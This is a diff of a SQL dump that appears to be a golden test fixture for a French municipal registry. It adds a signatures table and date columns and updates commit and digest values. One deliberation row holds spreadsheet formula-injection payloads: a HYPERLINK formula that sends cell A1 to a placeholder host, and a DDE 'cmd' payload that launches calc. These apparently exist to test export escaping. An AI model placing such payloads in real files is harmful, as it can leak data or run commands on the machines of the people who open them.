@@ -134,6 +134,17 @@ CREATE TABLE "conventions_scope_supports" (
   FOREIGN KEY ("support_id") REFERENCES "supports" ("id")
 );
 INSERT INTO "conventions_scope_supports" VALUES('istres',1,'istres-ep-1');
+CREATE TABLE "conventions_signatures" (
+  "convention_id" TEXT,
+  "n" INTEGER,
+  "party" TEXT,
+  "capacity" TEXT,
+  "signed_on" TEXT,
+  PRIMARY KEY ("convention_id", "n"),
+  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
+  FOREIGN KEY ("party") REFERENCES "parties" ("id")
+);
+INSERT INTO "conventions_signatures" VALUES('istres',1,'istres','Maire','2023-12-01');
 CREATE TABLE "conventions_third_parties" (
   "convention_id" TEXT,
   "n" INTEGER,
@@ -172,6 +183,8 @@ CREATE TABLE "deliberations" (
   "body_id" TEXT,
   "body_name" TEXT,
   "date" TEXT,
+  "transmitted_on" TEXT,
+  "published_on" TEXT,
   "subject" TEXT,
   "matter_code" TEXT,
   "matter_name" TEXT,
@@ -183,8 +196,8 @@ CREATE TABLE "deliberations" (
   PRIMARY KEY ("id"),
   FOREIGN KEY ("body_id") REFERENCES "parties" ("id")
 );
-INSERT INTO "deliberations" VALUES('cadre','IVIS-1/23/BM','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','2023-03-16','-2+3+cmd|'' /C calc''!D2',NULL,NULL,'https://www.example.org/deliberations/cadre',NULL,NULL,NULL,NULL);
-INSERT INTO "deliberations" VALUES('istres','2023-047','istres','Istres','2023-10-02','Deux lignes,
+INSERT INTO "deliberations" VALUES('cadre','IVIS-1/23/BM','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','2023-03-16',NULL,NULL,'-2+3+cmd|'' /C calc''!D2',NULL,NULL,'https://www.example.org/deliberations/cadre',NULL,NULL,NULL,NULL);
+INSERT INTO "deliberations" VALUES('istres','2023-047','istres','Istres','2023-10-02','2023-10-05','2023-10-06','Deux lignes,
 et « des guillemets " droits »',NULL,NULL,NULL,'annexes/deliberation.pdf','0000000000000000000000000000000000000000000000000000000000000000',NULL,NULL);
 CREATE TABLE "deliberations_amends" (
   "deliberation_id" TEXT,
@@ -520,11 +533,11 @@ INSERT INTO "parties_writers_keys" VALUES('istres',1,'SHA256:VpAew07yfl/pnwH6Qja
 CREATE TABLE "smartreg_about" (name TEXT PRIMARY KEY, value TEXT);
 INSERT INTO "smartreg_about" VALUES('version','1');
 INSERT INTO "smartreg_about" VALUES('registry','Golden registry');
-INSERT INTO "smartreg_about" VALUES('commit','d464ece5fc076c2cce88309b4423e8d46185fe37');
+INSERT INTO "smartreg_about" VALUES('commit','7eb53e3683c651ddbf0c3f0abab5449b1a26acaa');
 INSERT INTO "smartreg_about" VALUES('reference_date','2024-06-01');
 INSERT INTO "smartreg_about" VALUES('rules','<rules>');
 INSERT INTO "smartreg_about" VALUES('audience','internal');
-INSERT INTO "smartreg_about" VALUES('digest','sha256:c495e8021ca6cad6eb997dfaa6e87793bbd426104b4f138750d98a2e184078b0');
+INSERT INTO "smartreg_about" VALUES('digest','sha256:ce6b96b32e2a184403f85a345be2a3f768aa604971cba4c607f5d97984e013fa');
 CREATE TABLE "supports" (
   "id" TEXT,
   "type" TEXT,
@@ -626,6 +639,7 @@ CREATE INDEX "idx_conventions_parties_party_id" ON "conventions_parties" ("party
 CREATE INDEX "idx_conventions_deliberations_deliberation_id" ON "conventions_deliberations" ("deliberation_id");
 CREATE INDEX "idx_conventions_scope_supports_support_id" ON "conventions_scope_supports" ("support_id");
 CREATE INDEX "idx_conventions_scope_networks_network_id" ON "conventions_scope_networks" ("network_id");
+CREATE INDEX "idx_conventions_signatures_party" ON "conventions_signatures" ("party");
 CREATE INDEX "idx_conventions_third_parties_party" ON "conventions_third_parties" ("party");
 CREATE INDEX "idx_conventions_amendments_deliberations_deliberation_id" ON "conventions_amendments_deliberations" ("deliberation_id");
 CREATE INDEX "idx_supports_owner_id" ON "supports" ("owner_id");
